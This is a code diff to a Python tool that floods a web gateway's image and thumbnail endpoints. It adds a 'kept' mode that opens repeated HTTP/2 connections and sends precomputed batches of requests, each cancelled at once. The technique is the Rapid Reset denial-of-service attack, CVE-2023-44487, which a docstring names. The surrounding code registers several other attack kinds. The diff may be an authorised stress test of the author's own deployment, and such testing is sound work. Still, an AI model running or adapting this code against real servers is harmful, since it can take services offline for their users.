@@ -23,6 +23,8 @@ COLD = "/webgateway/render_image/{}/0/0/?q=0.{}"
 KEPT = "/webgateway/get_thumbnails/?" + "&".join(f"id={number}" for number in range(1, 51))
 STREAMS = 100
 """Requests of one connection that are under way at once."""
+LOTS = 100
+"""Of so many requests each, what one connection asks for in a flood of kept pages."""
 HELD = 2400
 SECONDS_TO_CONNECT = 2
 
@@ -40,6 +42,21 @@ def cold(address: str, host: str, end: float) -> dict[str, int]:
 def reset(address: str, host: str, end: float) -> dict[str, int]:
     """The same, giving each request up at once (CVE-2023-44487)."""
     return _ask(address, host, end, reset=True)
+
+
+def kept(address: str, host: str, end: float) -> dict[str, int]:
+    """The same with pages that are kept, as fast as the proxy takes them."""
+    asked = connections = 0
+    while time.monotonic() < end:
+        with suppress(OSError), closing(_secured(address, host, "h2")) as wire:
+            connections += 1
+            for lot in _given_up(host):
+                wire.settimeout(SECONDS_TO_CONNECT)
+                wire.sendall(lot)
+                asked += STREAMS
+                with suppress(TimeoutError):
+                    _drain(wire)
+    return {"requests": asked, "connections": connections}
 
 
 def headers(address: str, _: str, end: float) -> dict[str, int]:
@@ -68,6 +85,7 @@ def ssh(address: str, _: str, end: float) -> dict[str, int]:
 KINDS: dict[str, Callable[[str, str, float], dict[str, int]]] = {
     "cold": cold,
     "reset": reset,
+    "kept": kept,
     "headers": headers,
     "reading": reading,
     "websockets": websockets,
@@ -121,6 +139,28 @@ def _requests(wire: ssl.SSLSocket, host: str, end: float, *, reset: bool) -> Ite
         yield stream
         if not reset or stream % (2 * STREAMS) == 1:
             _read(wire, connection)
+
+
+@cache
+def _given_up(host: str) -> list[bytes]:
+    """What one connection sends, made once: an attack whose own work is small."""
+    connection, lots = h2.connection.H2Connection(), []
+    connection.initiate_connection()
+    names = {":method": "GET", ":scheme": "https", ":authority": host, ":path": KEPT}
+    for stream in range(1, 2 * LOTS * STREAMS, 2):
+        connection.send_headers(stream, list(names.items()), end_stream=True)
+        connection.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
+        if (stream + 1) % (2 * STREAMS) == 0:
+            lots.append(connection.data_to_send())
+    return lots
+
+
+def _drain(wire: ssl.SSLSocket) -> None:
+    """Take what has come; raises ConnectionResetError at the end."""
+    wire.settimeout(0.001)
+    while wire.recv(65536):
+        pass
+    raise ConnectionResetError
 
 
 def _read(wire: ssl.SSLSocket, connection: h2.connection.H2Connection) -> None:
